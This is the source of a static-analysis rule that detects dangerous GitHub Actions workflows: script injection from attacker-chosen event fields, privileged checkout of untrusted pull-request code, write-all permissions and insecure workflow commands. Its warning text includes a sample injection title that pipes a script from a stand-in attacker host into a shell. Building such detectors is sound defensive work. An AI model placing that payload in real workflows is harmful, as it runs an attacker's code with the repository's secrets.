import { at, type ConfigFile, type ConfigNode } from '../../config/file';
import { environment, jobs, steps, valueSpan } from '../../config/settings';
import type { Span } from '../../ir/types';
import type { Severity } from '../../report/finding';
import { setValue } from '../repairs/configEdits';
import type { Observation, Rule } from '../rule';
import { passByVariable } from './fix';

const injectionMessage =
  'GitHub pastes this value into the script before it runs, and anyone can choose it: a title such as `"; curl evil.example | sh` becomes a command. Put it into `env:` and use the variable, in quotes.';
const inputMessage =
  'GitHub pastes this value into the script before it runs, so quotes and `$( )` in it become commands. Put it into `env:` and use the variable, in quotes.';
const checkoutMessage =
  'This event runs with the secrets of your repository, and this step gets the code of a stranger’s pull request. Use `pull_request` for what builds or tests that code.';
const checkoutRunMessage =
  'This event runs with the secrets of your repository, but the code of a stranger’s pull request is fetched here and later steps run it. Use `pull_request` for what builds or tests that code.';
const permissionsMessage =
  'Every step of this workflow may change everything in the repository. List the few rights that it needs, such as `contents: read`.';
const commandsMessage =
  'This lets whatever a step prints set variables and paths of later steps. Remove it, and write to `$GITHUB_ENV` and `$GITHUB_PATH` instead.';

/** CWE-94: a workflow that runs what a stranger wrote. */
export const rule: Rule = {
  id: 'dangerous-workflow',
  title: 'Workflow that runs what a stranger wrote',
  cwe: [94, 78, 829],
  owasp: 'A03:2025 Software Supply Chain Failures',
  severity: 'error',
  languages: ['workflow'],
  siteKinds: [],
  config(file) {
    if (file.language !== 'workflow') return [];
    const triggers = triggersOf(file);
    return [
      ...jobs(file).flatMap((job) => checkJob(file, job, triggers)),
      ...checkPermissions(file),
      ...checkCommands(file),
    ];
  },
};

/**
 * Values of an event that anyone can choose.
 * https://docs.github.com/actions/concepts/security/script-injections
 */
const outsiders = [
  /\bgithub\.head_ref\b/,
  /\bgithub\.event\.(?:issue|pull_request|comment|review|review_comment|discussion)\.(?:title|body)\b/,
  /\bgithub\.event\.(?:pull_request|workflow_run\.pull_requests)\.head\.(?:ref|label|repo\.(?:default_branch|description|homepage))\b/,
  /\bgithub\.event\.(?:commits|head_commit|workflow_run\.head_commit)\.(?:message|(?:author|committer)\.(?:email|name))\b/,
  /\bgithub\.event\.workflow_run\.(?:head_branch|display_title|head_repository\.description)\b/,
  /\bgithub\.event\.pages\.(?:page_name|title)\b/,
  // The whole event, or a part with such a value in it.
  /\btojson\(\s*github(?:\.event(?:\.(?:issue|pull_request|comment|review|discussion|head_commit|commits|workflow_run))?)?\s*\)/i,
];
/** Values that only people with the right to start the workflow choose. */
const insiders = /\b(?:github\.event\.)?inputs\.([\w-]+)|\bgithub\.event\.client_payload\b/;

/** Events that strangers cause, and whose runs have secrets and the right to write. */
const privileged: ReadonlySet<string> = new Set([
  'pull_request_target',
  'issues',
  'issue_comment',
  'workflow_run',
  'discussion',
  'discussion_comment',
  'fork',
  'watch',
  'gollum',
]);

function triggersOf(file: ConfigFile): ReadonlySet<string> {
  const on = at(file.root, 'on');
  if (!on) return new Set();
  if (on.value !== undefined) return new Set([on.value]);
  return new Set(on.children.map((child) => (on.isList ? (child.value ?? '') : child.key)));
}

function checkJob(
  file: ConfigFile,
  job: ConfigNode,
  triggers: ReadonlySet<string>,
): readonly Observation[] {
  const found: Observation[] = [];
  const severity: Severity = [...triggers].some((trigger) => privileged.has(trigger))
    ? 'error'
    : 'warning';
  for (const step of steps(job)) {
    const tainted = taintedVariables([at(file.root, 'env'), at(job, 'env'), at(step, 'env')]);
    for (const script of scriptsOf(file, step)) {
      found.push(...injections(file, script, tainted, severity));
    }
  }
  return [...found, ...checkouts(file, job, triggers)];
}

/** Inputs that actions such as `actions/github-script` or `azure/cli` run. */
const scriptInput = /^(?:script|inline-?script|command|run|cmd)$/i;

/** What the step has a shell or an action run. */
function scriptsOf(file: ConfigFile, step: ConfigNode): readonly Span[] {
  const inputs = at(step, 'with')?.children ?? [];
  const given = inputs.filter(({ key }) => scriptInput.test(key));
  return [at(step, 'run'), ...given].flatMap((node) => (node ? [valueSpan(file.text, node)] : []));
}

/** Variables of the workflow that hold a value of a stranger: `${{ env.NAME }}` pastes it as well. */
function taintedVariables(scopes: readonly (ConfigNode | undefined)[]): ReadonlySet<string> {
  const names = new Set<string>();
  for (const scope of scopes) {
    for (const { key, value } of scope?.children ?? []) {
      if (value !== undefined && expressions(value).some(({ inner }) => isOutsiders(inner))) {
        names.add(key);
      } else names.delete(key);
    }
  }
  return names;
}

function expressions(text: string): { readonly inner: string; readonly at: Span }[] {
  return [...text.matchAll(/\$\{\{((?:[^}]|\}(?!\})){0,1000})\}\}/g)].map((match) => ({
    inner: match[1] ?? '',
    at: { start: match.index, end: match.index + match[0].length },
  }));
}

/** What a condition or a comparison gives is no text of a stranger. */
function isOutsiders(expression: string): boolean {
  const plain = expression.replace(/\[(?:\d+|\*)\]|\.\*/g, '').replace(/\['([\w-]+)'\]/g, '.$1');
  return !isCompared(expression) && outsiders.some((pattern) => pattern.test(plain));
}

function isCompared(expression: string): boolean {
  return /[=!]=|\b(?:contains|startsWith|endsWith)\s*\(|&&\s*'[^']*'/.test(expression);
}

function injections(
  file: ConfigFile,
  script: Span,
  tainted: ReadonlySet<string>,
  severity: Severity,
): readonly Observation[] {
  return expressions(file.text.slice(script.start, script.end)).flatMap(({ inner, at: place }) => {
    const span = { start: script.start + place.start, end: script.start + place.end };
    const fixes = () => passByVariable(file, span, inner);
    const variable = /^\s*env\.(\w+)\s*$/.exec(inner)?.[1];
    if (isOutsiders(inner) || (variable !== undefined && tainted.has(variable))) {
      return [{ at: span, severity, message: injectionMessage, fixes }];
    }
    const input = insiders.exec(inner);
    if (!input || !isFreeText(file, input[1]) || isCompared(inner)) return [];
    return [{ at: span, severity: 'hint', message: inputMessage, fixes } as const];
  });
}

/** Whether an input takes any text: not a number, a switch or a choice. */
function isFreeText(file: ConfigFile, name: string | undefined): boolean {
  if (name === undefined) return true;
  const declared = ['workflow_dispatch', 'workflow_call']
    .map((event) => at(file.root, 'on', event, 'inputs', name))
    .concat(at(file.root, 'inputs', name))
    .find((node) => node !== undefined);
  const type = at(declared, 'type')?.value;
  return type === undefined || type === 'string';
}

/**
 * The head of a pull request, by commit, branch or number.
 * https://docs.github.com/actions/reference/security/securely-using-pull_request_target
 */
const headOfStranger =
  /github\.event\.pull_request\.head\.(?:sha|ref|repo\.full_name)\b|github\.head_ref\b|refs\/pull\/|github\.event\.workflow_run\.head_(?:sha|branch|commit\.id)\b|github\.event\.pull_request\.merge_commit_sha\b/;
const checkoutCommand = /\bgh\s+pr\s+checkout\b|\bgit\s+(?:checkout|fetch|pull|switch)\b/;
/** Somebody of the project has to agree first, or it is no stranger. */
const guard =
  /author_association|github\.(?:actor|triggering_actor)\s*==|head\.repo\.(?:full_name|id|fork)|\.label\.name|labels\.\*\.name|collaborator|permission/;

function checkouts(
  file: ConfigFile,
  job: ConfigNode,
  triggers: ReadonlySet<string>,
): readonly Observation[] {
  const byComment = triggers.has('issue_comment');
  if (!triggers.has('pull_request_target') && !triggers.has('workflow_run') && !byComment)
    return [];
  const condition = at(job, 'if')?.value ?? '';
  if (guard.test(condition) || at(job, 'environment')) return [];
  // A workflow with several events may do this only for the harmless ones.
  if (
    /github\.event_name\s*==\s*'(?:push|pull_request|workflow_dispatch|schedule)'/.test(condition)
  ) {
    return [];
  }
  const all = steps(job);
  return all.flatMap((step, i): Observation[] => {
    const fetched = fetchesHead(file, step);
    if (!fetched || guard.test(at(step, 'if')?.value ?? '')) return [];
    const isRun = all.slice(i).some((later) => runsFiles(later));
    return [
      isRun
        ? { at: fetched, severity: 'error', message: checkoutRunMessage }
        : { at: fetched, severity: 'warning', message: checkoutMessage },
    ];
  });
}

/** The place where a step fetches code of a stranger. */
function fetchesHead(file: ConfigFile, step: ConfigNode): Span | undefined {
  if (/^actions\/checkout@/.test(at(step, 'uses')?.value ?? '')) {
    return [at(step, 'with', 'ref'), at(step, 'with', 'repository')].find((given) =>
      headOfStranger.test(given?.value ?? ''),
    );
  }
  const run = at(step, 'run');
  const command = checkoutCommand.exec(run?.value ?? '')?.[0];
  if (!run || command === undefined) return undefined;
  if (!command.startsWith('gh') && !headOfStranger.test(run.value ?? '')) return undefined;
  const start = file.text.indexOf(command, run.start);
  return start < 0 ? run : { start, end: start + command.length };
}

const runners =
  /\b(?:npm|yarn|pnpm|bun|npx|node|pip3?|poetry|uv|python3?|pytest|tox|make|cmake|mvn|\.\/mvnw|gradle|\.\/gradlew|bundle|rake|rails|ruby|composer|php|cargo|go|dotnet|docker|bash|sh)\s|(?:^|[\s;&|])\.\/\w/;

function runsFiles(step: ConfigNode): boolean {
  return (
    runners.test(at(step, 'run')?.value ?? '') || (at(step, 'uses')?.value ?? '').startsWith('./')
  );
}

function checkPermissions(file: ConfigFile): readonly Observation[] {
  return [file.root, ...jobs(file)].flatMap((scope): Observation[] => {
    const permissions = at(scope, 'permissions');
    if (permissions?.value !== 'write-all') return [];
    const fixes = () =>
      setValue('Allow reading the code only', permissions, '{ contents: read }', false);
    return [{ at: permissions, severity: 'warning', message: permissionsMessage, fixes }];
  });
}

/** https://docs.github.com/actions/reference/workflows-and-actions/workflow-commands */
function checkCommands(file: ConfigFile): readonly Observation[] {
  return environment(file).flatMap(({ name, value, at: place }): Observation[] =>
    name === 'ACTIONS_ALLOW_UNSECURE_COMMANDS' && value.toLowerCase() === 'true'
      ? [
          {
            at: place,
            severity: 'warning',
            message: commandsMessage,
            fixes: () => setValue('Switch it off', place, 'false', false),
          },
        ]
      : [],
  );
}
